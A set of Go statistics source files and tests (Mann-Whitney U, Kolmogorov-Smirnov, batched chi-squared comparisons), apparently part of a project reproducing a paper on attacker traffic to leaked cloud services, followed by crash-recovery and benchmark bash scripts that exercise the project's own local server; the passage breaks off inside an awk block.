		return MannWhitneyResult{U1: u1, U2: u2, Z: 0, P: 1}, nil
	}
	sigma := math.Sqrt(sigma2)

	var z, p float64
	switch alt {
	case AlternativeGreater:
		z = (u1 - mu - 0.5) / sigma
		p = NormalSurvival(z)
	case AlternativeLess:
		z = (u1 - mu + 0.5) / sigma
		p = 1 - NormalSurvival(z)
	default:
		z = u1 - mu
		if z > 0 {
			z -= 0.5
		} else if z < 0 {
			z += 0.5
		}
		z /= sigma
		p = 2 * NormalSurvival(math.Abs(z))
		if p > 1 {
			p = 1
		}
	}
	return MannWhitneyResult{U1: u1, U2: u2, Z: z, P: p}, nil
}

// midRanks returns mid-ranks of the concatenation (x then y) and the
// tie correction term Σ(t³−t) over tie groups of size t.
func midRanks(x, y []float64) (ranks []float64, tieTerm float64) {
	n := len(x) + len(y)
	vals := make([]float64, 0, n)
	vals = append(vals, x...)
	vals = append(vals, y...)
	idx := make([]int, n)
	for i := range idx {
		idx[i] = i
	}
	sort.Slice(idx, func(a, b int) bool { return vals[idx[a]] < vals[idx[b]] })

	ranks = make([]float64, n)
	for i := 0; i < n; {
		j := i
		for j+1 < n && vals[idx[j+1]] == vals[idx[i]] {
			j++
		}
		// Average rank for the tie group [i, j] (1-based ranks).
		avg := float64(i+j+2) / 2
		t := float64(j - i + 1)
		if t > 1 {
			tieTerm += t*t*t - t
		}
		for k := i; k <= j; k++ {
			ranks[idx[k]] = avg
		}
		i = j + 1
	}
	return ranks, tieTerm
}

// FoldIncrease returns mean(x)/mean(y), the "fold increase in traffic
// per hour" metric of Table 3. It returns +Inf when y's mean is zero
// and x's is not, and 1 when both are zero.
func FoldIncrease(x, y []float64) float64 {
	mx, my := Mean(x), Mean(y)
	switch {
	case my == 0 && mx == 0:
		return 1
	case my == 0:
		return math.Inf(1)
	default:
		return mx / my
	}
}

// Mean returns the arithmetic mean of xs, or 0 for an empty slice.
func Mean(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	s := 0.0
	for _, v := range xs {
		s += v
	}
	return s / float64(len(xs))
}

// Median returns the median of xs (average of the two middle values
// for even lengths), or 0 for an empty slice. The paper compares
// "median expected values ... across groups" to filter per-IP attacker
// preferences (§4.4).
func Median(xs []float64) float64 {
	n := len(xs)
	if n == 0 {
		return 0
	}
	s := make([]float64, n)
	copy(s, xs)
	return MedianInPlace(s)
}

// MedianInPlace is Median without the defensive copy: it sorts xs in
// place and returns the median. For hot loops that own a reusable
// scratch buffer (e.g. the §4.4 median group merge).
func MedianInPlace(xs []float64) float64 {
	n := len(xs)
	if n == 0 {
		return 0
	}
	sort.Float64s(xs)
	if n%2 == 1 {
		return xs[n/2]
	}
	return (xs[n/2-1] + xs[n/2]) / 2
}
