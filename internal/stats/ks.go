package stats

import (
	"math"
	"sort"
)

// KSResult holds the outcome of a two-sample Kolmogorov-Smirnov test.
type KSResult struct {
	D float64 // supremum distance between the two empirical CDFs
	P float64 // asymptotic p-value
}

// KolmogorovSmirnov performs the two-sample Kolmogorov-Smirnov test.
// The paper's §4.3 uses it "to compare the distributions of the
// average volume of traffic per hour targeting leaked and non-leaked
// services"; a significant result with spiky traffic marks the table
// star. The p-value uses the asymptotic Kolmogorov distribution with
// the small-sample correction of Stephens (λ = (√n_e + 0.12 +
// 0.11/√n_e)·D).
func KolmogorovSmirnov(x, y []float64) (KSResult, error) {
	n1, n2 := len(x), len(y)
	if n1 == 0 || n2 == 0 {
		return KSResult{}, ErrSampleSize
	}
	xs := append([]float64(nil), x...)
	ys := append([]float64(nil), y...)
	sort.Float64s(xs)
	sort.Float64s(ys)

	var d float64
	i, j := 0, 0
	for i < n1 && j < n2 {
		v := math.Min(xs[i], ys[j])
		for i < n1 && xs[i] <= v {
			i++
		}
		for j < n2 && ys[j] <= v {
			j++
		}
		f1 := float64(i) / float64(n1)
		f2 := float64(j) / float64(n2)
		if diff := math.Abs(f1 - f2); diff > d {
			d = diff
		}
	}

	ne := float64(n1) * float64(n2) / float64(n1+n2)
	sqrtNe := math.Sqrt(ne)
	lambda := (sqrtNe + 0.12 + 0.11/sqrtNe) * d
	return KSResult{D: d, P: KolmogorovSurvival(lambda)}, nil
}

// SpikeCount counts traffic "spikes" in an hourly volume series: hours
// whose volume exceeds max(threshold·median, minAbs). §4.3 observes
// that "scanners and attackers are more likely to only briefly scan a
// leaked service"; spike counting makes that burstiness measurable.
func SpikeCount(hourly []float64, threshold, minAbs float64) int {
	if len(hourly) == 0 {
		return 0
	}
	med := Median(hourly)
	cut := threshold * med
	if cut < minAbs {
		cut = minAbs
	}
	n := 0
	for _, v := range hourly {
		if v > cut {
			n++
		}
	}
	return n
}
