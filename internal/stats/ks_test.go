package stats

import (
	"math/rand"
	"testing"
	"testing/quick"
)

func TestKolmogorovSmirnovIdentical(t *testing.T) {
	x := []float64{1, 2, 3, 4, 5, 6, 7, 8}
	res, err := KolmogorovSmirnov(x, x)
	if err != nil {
		t.Fatal(err)
	}
	if res.D != 0 {
		t.Errorf("D = %v, want 0 for identical samples", res.D)
	}
	if res.P < 0.99 {
		t.Errorf("p = %v, want ≈1", res.P)
	}
}

func TestKolmogorovSmirnovDisjoint(t *testing.T) {
	x := make([]float64, 50)
	y := make([]float64, 50)
	for i := range x {
		x[i] = float64(i)
		y[i] = float64(i + 1000)
	}
	res, err := KolmogorovSmirnov(x, y)
	if err != nil {
		t.Fatal(err)
	}
	if res.D != 1 {
		t.Errorf("D = %v, want 1 for disjoint supports", res.D)
	}
	if res.P > 1e-6 {
		t.Errorf("p = %v, want ≈0", res.P)
	}
}

func TestKolmogorovSmirnovKnownD(t *testing.T) {
	// x CDF jumps at 1,2; y CDF jumps at 2,3. At v=1: F1=0.5, F2=0 → D=0.5.
	res, err := KolmogorovSmirnov([]float64{1, 2}, []float64{2, 3})
	if err != nil {
		t.Fatal(err)
	}
	if !almostEqual(res.D, 0.5, 1e-12) {
		t.Errorf("D = %v, want 0.5", res.D)
	}
}

func TestKolmogorovSmirnovEmpty(t *testing.T) {
	if _, err := KolmogorovSmirnov(nil, []float64{1}); err != ErrSampleSize {
		t.Errorf("err = %v, want ErrSampleSize", err)
	}
}

func TestKolmogorovSmirnovDRangeProperty(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		n1 := 1 + rng.Intn(50)
		n2 := 1 + rng.Intn(50)
		x := make([]float64, n1)
		y := make([]float64, n2)
		for i := range x {
			x[i] = rng.NormFloat64()
		}
		for i := range y {
			y[i] = rng.NormFloat64() * 2
		}
		res, err := KolmogorovSmirnov(x, y)
		if err != nil {
			return false
		}
		return res.D >= 0 && res.D <= 1 && res.P >= 0 && res.P <= 1
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestKolmogorovSmirnovSymmetryProperty(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		n := 2 + rng.Intn(30)
		x := make([]float64, n)
		y := make([]float64, n)
		for i := range x {
			x[i] = float64(rng.Intn(10))
			y[i] = float64(rng.Intn(10))
		}
		r1, err1 := KolmogorovSmirnov(x, y)
		r2, err2 := KolmogorovSmirnov(y, x)
		if err1 != nil || err2 != nil {
			return false
		}
		return almostEqual(r1.D, r2.D, 1e-12)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestKolmogorovSmirnovDoesNotMutateInput(t *testing.T) {
	x := []float64{3, 1, 2}
	y := []float64{5, 4}
	if _, err := KolmogorovSmirnov(x, y); err != nil {
		t.Fatal(err)
	}
	if x[0] != 3 || x[1] != 1 || x[2] != 2 || y[0] != 5 {
		t.Errorf("inputs mutated: x=%v y=%v", x, y)
	}
}

func TestSpikeCount(t *testing.T) {
	// Median 1; threshold 3 → cutoff max(3, minAbs=2)=3. Spikes: 10 and 20.
	hourly := []float64{1, 1, 1, 10, 1, 20, 1}
	if got := SpikeCount(hourly, 3, 2); got != 2 {
		t.Errorf("SpikeCount = %d, want 2", got)
	}
	// All-zero series with minAbs floor: no spikes.
	if got := SpikeCount([]float64{0, 0, 0}, 3, 2); got != 0 {
		t.Errorf("SpikeCount zeros = %d, want 0", got)
	}
	if got := SpikeCount(nil, 3, 2); got != 0 {
		t.Errorf("SpikeCount nil = %d, want 0", got)
	}
	// Zero-median series where minAbs floor matters.
	if got := SpikeCount([]float64{0, 0, 0, 5}, 3, 2); got != 1 {
		t.Errorf("SpikeCount floor = %d, want 1", got)
	}
}
