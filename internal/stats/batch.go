package stats

import "sort"

// This file is the batched §3.3 comparison engine. The paper's
// methodology is thousands of pairwise top-K chi-squared comparisons
// per experiment family (all honeypot pairs of a neighborhood, all
// region pairs of a network, ...). The naive path — CompareTopK per
// pair — re-sorts each side's frequency table, rebuilds the category
// union as a string set, and allocates a fresh contingency matrix for
// every pair. A BatchSet does all the per-table work exactly once for
// the whole family: categories are interned into a dense dictionary
// shared by every pair, each table's top-K is ranked once and stored
// as sorted dictionary ids, and per-pair comparisons merge two small
// sorted id lists and run the chi-squared test over reusable scratch
// rows. Results are identical to CompareTopK pair by pair.

// TableSummary is one frequency table prepared for batch comparison:
// the table itself (category count lookups), its full ranked key order
// — (count desc, key asc), so TopK(k) is a prefix — and its total.
type TableSummary struct {
	Table  Freq
	Ranked []string
	Total  float64
}

// Summarize ranks and totals a frequency table. The work equals one
// TopK call; callers that compare a table in many pairs should
// summarize once and reuse the result.
func Summarize(f Freq) TableSummary {
	return TableSummary{Table: f, Ranked: f.TopK(len(f)), Total: f.Total()}
}

// BatchSet holds the immutable, shareable state of a batched family
// comparison at one K: the interned category dictionary (the union of
// every table's top-K, lexicographically ordered so dictionary-id
// order equals the category order UnionTopK produces), each table's
// dense counts over the dictionary, and each table's top-K as sorted
// dictionary ids. Build one per (family, K); derive a PairComparer per
// worker for the actual comparisons.
type BatchSet struct {
	k      int
	keys   []string    // id -> category key, lexicographic
	counts [][]float64 // per table: dense counts over keys
	topk   [][]int32   // per table: top-K as ascending dictionary ids
	totals []float64   // per table: full-table totals
}

// NewBatchSet interns the union of every table's top-k categories and
// densifies the tables against it.
func NewBatchSet(k int, tables []TableSummary) *BatchSet {
	seen := map[string]struct{}{}
	for _, t := range tables {
		for _, key := range topRanked(t.Ranked, k) {
			seen[key] = struct{}{}
		}
	}
	keys := make([]string, 0, len(seen))
	for key := range seen {
		keys = append(keys, key)
	}
	sort.Strings(keys)
	id := make(map[string]int32, len(keys))
	for i, key := range keys {
		id[key] = int32(i)
	}

	set := &BatchSet{
		k:      k,
		keys:   keys,
		counts: make([][]float64, len(tables)),
		topk:   make([][]int32, len(tables)),
		totals: make([]float64, len(tables)),
	}
	for ti, t := range tables {
		row := make([]float64, len(keys))
		for i, key := range keys {
			row[i] = t.Table[key]
		}
		set.counts[ti] = row
		top := topRanked(t.Ranked, k)
		ids := make([]int32, len(top))
		for i, key := range top {
			ids[i] = id[key]
		}
		sort.Slice(ids, func(a, b int) bool { return ids[a] < ids[b] })
		set.topk[ti] = ids
		set.totals[ti] = t.Total
	}
	return set
}

// topRanked is the top-k prefix of a ranked key list.
func topRanked(ranked []string, k int) []string {
	if len(ranked) > k {
		return ranked[:k]
	}
	return ranked
}

// Len returns the number of tables in the set.
func (s *BatchSet) Len() int { return len(s.counts) }

// Total returns table t's full total.
func (s *BatchSet) Total(t int) float64 { return s.totals[t] }

// Key returns the category key of a dictionary id.
func (s *BatchSet) Key(id int32) string { return s.keys[id] }

// Comparer returns a PairComparer with private scratch buffers. One
// comparer serves any number of sequential comparisons; concurrent
// workers need one each (the BatchSet itself is read-only and shared).
func (s *BatchSet) Comparer() *PairComparer {
	return &PairComparer{set: s}
}

// PairComparer runs pairwise comparisons over a BatchSet using
// reusable scratch buffers. Not safe for concurrent use.
type PairComparer struct {
	set    *BatchSet
	union  []int32
	rowA   []float64
	rowB   []float64
	colSum []float64
}

// Union merges tables i and j's top-K id lists into the pair's
// category union, ascending (= lexicographic) order. The returned
// slice aliases scratch and is valid until the next call.
func (pc *PairComparer) Union(i, j int) []int32 {
	a, b := pc.set.topk[i], pc.set.topk[j]
	u := pc.union[:0]
	ai, bi := 0, 0
	for ai < len(a) && bi < len(b) {
		switch {
		case a[ai] < b[bi]:
			u = append(u, a[ai])
			ai++
		case a[ai] > b[bi]:
			u = append(u, b[bi])
			bi++
		default:
			u = append(u, a[ai])
			ai++
			bi++
		}
	}
	u = append(u, a[ai:]...)
	u = append(u, b[bi:]...)
	pc.union = u
	return u
}

// Compare runs the §3.3 comparison between tables i and j of the set:
// union of top-K categories, contingency rows, chi-squared test. The
// result is identical to CompareTopK(k, a, b) on the original tables.
func (pc *PairComparer) Compare(i, j int) (ChiSquareResult, error) {
	res, _, _, err := pc.CompareCounted(i, j)
	return res, err
}

// CompareCounted is Compare plus the contingency-table width (union
// size) and the count of union categories observed zero on at least
// one side — the near-zero-cell metric of the paper's footnote-2
// ablation.
func (pc *PairComparer) CompareCounted(i, j int) (res ChiSquareResult, width, zeros int, err error) {
	u := pc.Union(i, j)
	width = len(u)
	ci, cj := pc.set.counts[i], pc.set.counts[j]
	if cap(pc.rowA) < width {
		pc.rowA = make([]float64, width)
		pc.rowB = make([]float64, width)
		pc.colSum = make([]float64, width)
	}
	a, b := pc.rowA[:width], pc.rowB[:width]
	for n, id := range u {
		a[n] = ci[id]
		b[n] = cj[id]
		if a[n] == 0 || b[n] == 0 {
			zeros++
		}
	}
	if width < 2 {
		// Identical single-category tables: indistinguishable
		// (CompareTopK's short-circuit, with full-table totals).
		return ChiSquareResult{P: 1, N: int(pc.set.totals[i] + pc.set.totals[j])}, width, zeros, nil
	}
	res, err = chiSquareTwoRows(a, b, pc.colSum[:width])
	return res, width, zeros, err
}

// chiSquareTwoRows is ChiSquare specialized to a 2×c table held in two
// scratch rows. The arithmetic — accumulation order included — mirrors
// ChiSquare exactly, so results are bit-identical.
func chiSquareTwoRows(a, b, colSum []float64) (ChiSquareResult, error) {
	c := len(a)
	if c < 2 {
		return ChiSquareResult{}, ErrTableShape
	}
	var rowA, rowB, total float64
	for j, v := range a {
		if !validCount(v) {
			return ChiSquareResult{}, invalidCountErr(v, 0, j)
		}
		rowA += v
		colSum[j] = v
		total += v
	}
	for j, v := range b {
		if !validCount(v) {
			return ChiSquareResult{}, invalidCountErr(v, 1, j)
		}
		rowB += v
		colSum[j] += v
		total += v
	}
	if total == 0 {
		return ChiSquareResult{}, ErrTableEmpty
	}
	if rowA == 0 || rowB == 0 {
		return ChiSquareResult{}, ErrZeroMargin
	}
	for _, s := range colSum {
		if s == 0 {
			return ChiSquareResult{}, ErrZeroMargin
		}
	}

	stat := 0.0
	for j := 0; j < c; j++ {
		expected := rowA * colSum[j] / total
		d := a[j] - expected
		stat += d * d / expected
	}
	for j := 0; j < c; j++ {
		expected := rowB * colSum[j] / total
		d := b[j] - expected
		stat += d * d / expected
	}
	return finishTwoRowResult(stat, c, total)
}
