package stats

import (
	"math"
	"math/rand"
	"sort"
	"testing"
	"testing/quick"
)

func TestMannWhitneyUSumProperty(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		n1 := 1 + rng.Intn(40)
		n2 := 1 + rng.Intn(40)
		x := make([]float64, n1)
		y := make([]float64, n2)
		for i := range x {
			x[i] = float64(rng.Intn(20))
		}
		for i := range y {
			y[i] = float64(rng.Intn(20))
		}
		res, err := MannWhitneyU(x, y, AlternativeTwoSided)
		if err != nil {
			return false
		}
		return almostEqual(res.U1+res.U2, float64(n1*n2), 1e-9)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestMannWhitneyUClearSeparation(t *testing.T) {
	x := []float64{100, 101, 102, 103, 104, 105, 106, 107, 108, 109}
	y := []float64{1, 2, 3, 4, 5, 6, 7, 8, 9, 10}
	res, err := MannWhitneyU(x, y, AlternativeGreater)
	if err != nil {
		t.Fatal(err)
	}
	if res.U1 != 100 {
		t.Errorf("U1 = %v, want 100 (complete dominance)", res.U1)
	}
	if res.P > 0.001 {
		t.Errorf("p = %v, want < 0.001", res.P)
	}
	// Reversed direction should not be significant.
	resLess, err := MannWhitneyU(x, y, AlternativeLess)
	if err != nil {
		t.Fatal(err)
	}
	if resLess.P < 0.99 {
		t.Errorf("less-direction p = %v, want ≈1", resLess.P)
	}
}

func TestMannWhitneyUIdenticalSamples(t *testing.T) {
	x := []float64{5, 5, 5, 5, 5}
	res, err := MannWhitneyU(x, x, AlternativeTwoSided)
	if err != nil {
		t.Fatal(err)
	}
	if res.P != 1 {
		t.Errorf("all-tied p = %v, want 1", res.P)
	}
}

func TestMannWhitneyUSymmetricSamplesNotSignificant(t *testing.T) {
	x := []float64{1, 3, 5, 7, 9, 11, 13, 15}
	y := []float64{2, 4, 6, 8, 10, 12, 14, 16}
	res, err := MannWhitneyU(x, y, AlternativeTwoSided)
	if err != nil {
		t.Fatal(err)
	}
	if res.P < 0.5 {
		t.Errorf("interleaved p = %v, want > 0.5", res.P)
	}
}

func TestMannWhitneyUEmpty(t *testing.T) {
	if _, err := MannWhitneyU(nil, []float64{1}, AlternativeGreater); err != ErrSampleSize {
		t.Errorf("err = %v, want ErrSampleSize", err)
	}
	if _, err := MannWhitneyU([]float64{1}, nil, AlternativeGreater); err != ErrSampleSize {
		t.Errorf("err = %v, want ErrSampleSize", err)
	}
}

func TestMannWhitneyPValueRangeProperty(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		n1 := 2 + rng.Intn(30)
		n2 := 2 + rng.Intn(30)
		x := make([]float64, n1)
		y := make([]float64, n2)
		for i := range x {
			x[i] = rng.NormFloat64()
		}
		for i := range y {
			y[i] = rng.NormFloat64()
		}
		for _, alt := range []MWUAlternative{AlternativeTwoSided, AlternativeGreater, AlternativeLess} {
			res, err := MannWhitneyU(x, y, alt)
			if err != nil || res.P < 0 || res.P > 1 {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestMidRanksTies(t *testing.T) {
	ranks, tie := midRanks([]float64{1, 2, 2}, []float64{2, 3})
	// Sorted: 1(rank 1), 2,2,2 (ranks 2,3,4 -> mid 3), 3 (rank 5).
	want := []float64{1, 3, 3, 3, 5}
	for i, w := range want {
		if ranks[i] != w {
			t.Errorf("rank[%d] = %v, want %v", i, ranks[i], w)
		}
	}
	if tie != 27-3 { // one tie group of size 3: 3^3-3 = 24
		t.Errorf("tieTerm = %v, want 24", tie)
	}
}

func TestFoldIncrease(t *testing.T) {
	if got := FoldIncrease([]float64{4, 6}, []float64{1, 1}); got != 5 {
		t.Errorf("fold = %v, want 5", got)
	}
	if got := FoldIncrease([]float64{1}, []float64{0}); !math.IsInf(got, 1) {
		t.Errorf("fold vs zero = %v, want +Inf", got)
	}
	if got := FoldIncrease([]float64{0}, []float64{0}); got != 1 {
		t.Errorf("fold 0/0 = %v, want 1", got)
	}
}

func TestMeanMedian(t *testing.T) {
	if got := Mean(nil); got != 0 {
		t.Errorf("Mean(nil) = %v", got)
	}
	if got := Mean([]float64{1, 2, 3, 4}); got != 2.5 {
		t.Errorf("Mean = %v, want 2.5", got)
	}
	if got := Median(nil); got != 0 {
		t.Errorf("Median(nil) = %v", got)
	}
	if got := Median([]float64{9, 1, 5}); got != 5 {
		t.Errorf("Median odd = %v, want 5", got)
	}
	if got := Median([]float64{4, 1, 3, 2}); got != 2.5 {
		t.Errorf("Median even = %v, want 2.5", got)
	}
	// Median must not mutate its input.
	xs := []float64{3, 1, 2}
	Median(xs)
	if xs[0] != 3 || xs[1] != 1 || xs[2] != 2 {
		t.Errorf("Median mutated input: %v", xs)
	}
}

func TestMedianInPlaceMatchesMedian(t *testing.T) {
	cases := [][]float64{
		{},
		{3},
		{2, 1},
		{5, 1, 4, 2, 3},
		{7, 7, 7, 7},
		{1.5, -2, 0, 9, 4, -6},
	}
	for _, xs := range cases {
		want := Median(xs)
		scratch := make([]float64, len(xs))
		copy(scratch, xs)
		if got := MedianInPlace(scratch); got != want {
			t.Errorf("MedianInPlace(%v) = %v, want %v", xs, got, want)
		}
		if !sort.Float64sAreSorted(scratch) {
			t.Errorf("MedianInPlace left %v unsorted", scratch)
		}
	}
}
