module cloudwatch

go 1.24
