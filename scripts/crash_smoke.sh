#!/usr/bin/env bash
# Crash-recovery smoke for the durable serving tier: run the server
# once uninterrupted to capture a reference render, then run it against
# a durable store, kill -9 it mid-ingest, restart on the same store,
# and assert that the restarted process (a) recovers from the store
# instead of regenerating, (b) serves a render byte-identical to the
# uninterrupted run's, and (c) exits 0 on SIGTERM.
#
# Usage: scripts/crash_smoke.sh [port] [scenario]
#   scenario  optional scenario pack to run the whole smoke under
#             (default: baseline) — recovery must hold in every world.
set -euo pipefail
cd "$(dirname "$0")/.."

port="${1:-18970}"
scenario="${2:-baseline}"
addr="127.0.0.1:$port"
dir="$(mktemp -d)"
pid=""
cleanup() {
  [ -n "$pid" ] && kill -9 "$pid" 2>/dev/null || true
  rm -rf "$dir"
}
trap cleanup EXIT

go build -o "$dir/cloudwatch" ./cmd/cloudwatch
args=(-serve "$addr" -scale 0.2 -epochs 6 -scenario "$scenario")

# Wait until the server reports at least $1 ingested epochs.
wait_ingested() {
  local want="$1" body n
  for _ in $(seq 1 600); do
    if body="$(curl -fsS "http://$addr/readyz" 2>/dev/null)"; then
      n="$(printf '%s' "$body" | sed -n 's/.*"ingested": *\([0-9]*\).*/\1/p')"
      [ -n "$n" ] && [ "$n" -ge "$want" ] && return 0
    fi
    sleep 0.1
  done
  echo "FAIL: server never reached $want ingested epochs" >&2
  return 1
}

# The snapshot JSON is identical across runs except for the cache flag.
fetch_render() {
  curl -fsS "http://$addr/v1/snapshot/2/table2" | sed '/"cached"/d'
}

echo "== reference run (no store, uninterrupted)"
"$dir/cloudwatch" "${args[@]}" 2>"$dir/ref.log" &
pid=$!
wait_ingested 2
if ! curl -fsS "http://$addr/readyz" | grep -q "\"scenario\": \"$scenario\""; then
  echo "FAIL: server does not report active scenario $scenario" >&2
  exit 1
fi
want="$(fetch_render)"
kill -TERM "$pid"
rc=0; wait "$pid" || rc=$?
pid=""
if [ "$rc" -ne 0 ]; then
  echo "FAIL: SIGTERM shutdown exited $rc, want 0" >&2
  exit 1
fi

echo "== run against a store, kill -9 mid-ingest"
"$dir/cloudwatch" "${args[@]}" -store "$dir/store" 2>"$dir/run1.log" &
pid=$!
wait_ingested 1   # at least one epoch acknowledged, later ones in flight
kill -9 "$pid"
wait "$pid" 2>/dev/null || true
pid=""

echo "== restart on the same store"
"$dir/cloudwatch" "${args[@]}" -store "$dir/store" 2>"$dir/run2.log" &
pid=$!
wait_ingested 2
if ! grep -q "generation skipped" "$dir/run2.log"; then
  echo "FAIL: restart regenerated instead of recovering from the store" >&2
  cat "$dir/run2.log" >&2
  exit 1
fi
# The metrics endpoint must agree with the logs: exactly one recovery,
# counted under the "recovered" outcome.
metrics="$(curl -fsS "http://$addr/metrics")"
if ! printf '%s\n' "$metrics" | grep -q '^store_recovery_total{outcome="recovered"} 1$'; then
  echo "FAIL: /metrics does not report store_recovery_total{outcome=\"recovered\"} == 1" >&2
  printf '%s\n' "$metrics" | grep '^store_recovery_total' >&2 || true
  exit 1
fi
got="$(fetch_render)"
kill -TERM "$pid"
rc=0; wait "$pid" || rc=$?
pid=""
if [ "$rc" -ne 0 ]; then
  echo "FAIL: SIGTERM shutdown after recovery exited $rc, want 0" >&2
  exit 1
fi

if [ "$got" != "$want" ]; then
  echo "FAIL: recovered render differs from the uninterrupted run" >&2
  diff <(printf '%s\n' "$want") <(printf '%s\n' "$got") >&2 || true
  exit 1
fi

echo "OK: killed -9 mid-ingest, recovered from the store, render byte-identical, clean exits"
