#!/usr/bin/env bash
# Benchmark smoke for trajectory tracking: runs the study-throughput
# benchmark plus every table/figure benchmark once and emits a JSON
# summary (records/sec and per-bench ns/op) for cross-PR comparison.
#
# Usage: scripts/bench.sh [output.json] [bench-log]
#   output.json  summary destination (default: BENCH_PR2.json)
#   bench-log    existing `go test -bench` output to parse instead of
#                re-running the benchmarks (lets CI run them once)
set -euo pipefail
cd "$(dirname "$0")/.."

out="${1:-BENCH_PR2.json}"
log="${2:-}"
if [ -z "$log" ]; then
  log="$(mktemp)"
  trap 'rm -f "$log"' EXIT
  go test -bench 'BenchmarkStudyParallel$|BenchmarkTable|BenchmarkFigure1' \
    -benchtime=1x -run '^$' . | tee "$log"
fi

awk -v out="$out" '
  /^BenchmarkStudyParallel/ {
    for (i = 1; i <= NF; i++) if ($i == "records/sec") rps = $(i-1)
  }
  /^Benchmark(Table|Figure)/ {
    name = $1; sub(/-[0-9]+$/, "", name)
    for (i = 1; i <= NF; i++) if ($i == "ns/op") ns[name] = $(i-1)
    order[n++] = name
  }
  END {
    printf "{\n  \"records_per_sec\": %s,\n  \"table_bench_ns_per_op\": {\n", (rps == "" ? "null" : rps) > out
    for (i = 0; i < n; i++)
      printf "    \"%s\": %s%s\n", order[i], ns[order[i]], (i < n-1 ? "," : "") >> out
    printf "  }\n}\n" >> out
  }
' "$log"
echo "wrote $out"
