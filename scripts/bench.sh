#!/usr/bin/env bash
# Benchmark smoke for trajectory tracking: runs the study-throughput
# benchmark plus every table/figure benchmark once (the cold path),
# then the §3.3 comparison-engine benchmarks at -benchtime=20x (the
# memoized steady state) and the streaming-engine benchmarks (ingest
# records/sec plus warm-vs-cold sweep renders/sec), and emits a JSON
# summary for cross-PR comparison.
#
# Usage: scripts/bench.sh [output.json] [bench-log]
#   output.json  summary destination (default: BENCH_PR10.json)
#   bench-log    existing `go test -bench` output to parse for the
#                cold-path numbers instead of re-running them (lets CI
#                run them once); the steady-state pass always runs.
set -euo pipefail
cd "$(dirname "$0")/.."

out="${1:-BENCH_PR10.json}"
log="${2:-}"
steady="$(mktemp)"
stage="$(mktemp)"
cleanup="$steady $stage"
trap 'rm -f $cleanup' EXIT
if [ -z "$log" ]; then
  log="$(mktemp)"
  cleanup="$cleanup $log"
  go test -bench 'BenchmarkTable|BenchmarkFigure1' \
    -benchtime=1x -run '^$' . | tee "$log"
fi

# Generation and streaming throughput run in their own multi-iteration
# passes: a single -benchtime=1x sample of records/sec is dominated by
# first-run warmup and scheduler noise. Appending to the log keeps the
# awk below a single-pass parse whether the cold log came from CI or
# from here. -benchmem reports allocs/op so allocation regressions in
# the generation hot path show up in the trajectory JSON, and
# BenchmarkStreamGeneration (epoch-partitioned generation, same varying
# seeds as BenchmarkStudyGeneration) feeds the
# streaming_over_batch_generation ratio. Throughput passes repeat
# (-count) and the parser keeps each benchmark's best sample: the
# shared CI runner suffers multi-second noisy-neighbor windows that
# halve a single sample, and best-of-N tracks the code, not the host.
go test -bench 'BenchmarkStudyGeneration$|BenchmarkStudySerial$|BenchmarkStudyParallel$|BenchmarkStreamGeneration$' \
  -benchtime=5x -benchmem -count=2 -run '^$' . | tee -a "$log"

# Per-scenario generation throughput: one sub-benchmark per registered
# scenario pack, so a pack whose population drifts expensive shows up
# in the trajectory JSON.
go test -bench 'BenchmarkScenarioGeneration' -benchtime=3x -run '^$' . | tee -a "$log"

# Streaming engine: ingest throughput, then the PR 5 acceptance grid —
# Table 2 + Table 5 at K=1..10 across 8 epoch prefixes — warm (sweep
# engine over prefix snapshots) vs cold (fresh truncated run per
# point). BenchmarkSweepWarm runs 20 iterations so the steady state
# dominates the first iteration's cache build.
# BenchmarkStreamIngestBare is the same ingest with stage tracing off;
# the instrumented/bare records-per-sec ratio prices the observability
# layer (acceptance: >= 0.98, i.e. <= 2% overhead).
go test -bench 'BenchmarkStreamIngest$|BenchmarkStreamIngestBare$' -benchtime=3x -benchmem -count=3 -run '^$' . | tee -a "$log"
# Per-epoch ingest latency at prefix 2 vs prefix 8: with incremental
# snapshot assembly the p8/p2 ratio should sit near 1.0 (flat), where
# the O(prefix) from-scratch assembler sat near 3.
go test -bench 'BenchmarkStreamIngestLatency$' -benchtime=3x -run '^$' . | tee -a "$log"
go test -bench 'BenchmarkSweepWarm$' -benchtime=20x -run '^$' . | tee -a "$log"
go test -bench 'BenchmarkSweepCold$' -benchtime=10x -run '^$' . | tee -a "$log"
# Durable-store cold start: engine open through the first rendered
# table, from a warm store (recovered, generation skipped) vs an empty
# one (regenerate from the seed). The recovered path should be the
# clearly cheaper one.
go test -bench 'BenchmarkColdStart' -benchtime=5x -run '^$' . | tee -a "$log"

# Per-stage ingest breakdown: one sweep-mode CLI run with -trace; its
# `trace: stage=...` stderr lines carry the per-stage medians the
# parser folds into the JSON (which stage the ingest wall-clock goes
# to: generation, assembly, repair, render).
echo "== -trace stage breakdown (sweep-mode CLI run)"
go run ./cmd/cloudwatch -experiment sweep -epochs 8 -sweep-tables table2 \
  -sweep-kmin 1 -sweep-kmax 3 -trace >/dev/null 2>"$stage"
grep '^trace:' "$stage" | tee -a "$log"

go test -bench 'BenchmarkTable2Neighborhoods$|BenchmarkTable5GeoSimilarity$' \
  -benchtime=20x -run '^$' . | tee "$steady"

awk -v out="$out" '
  # Classify by filename, not FNR==1 file counting: an empty first
  # file would otherwise shift every steady-state line into the
  # cold-path object.
  { file = (FILENAME == ARGV[1]) ? 1 : 2 }
  # Lines without a ns/op field (interrupted or malformed bench
  # output) are skipped instead of emitting invalid JSON.
  # Per-benchmark generation throughput (BenchmarkStudyGeneration /
  # Serial / Parallel plus the epoch-partitioned
  # BenchmarkStreamGeneration) so the records/sec trajectory — and,
  # with -benchmem, the allocs/op trajectory — is tracked per PR.
  file == 1 && (/^BenchmarkStudy/ || /^BenchmarkStreamGeneration/) {
    name = $1; sub(/-[0-9]+$/, "", name)
    for (i = 1; i <= NF; i++) {
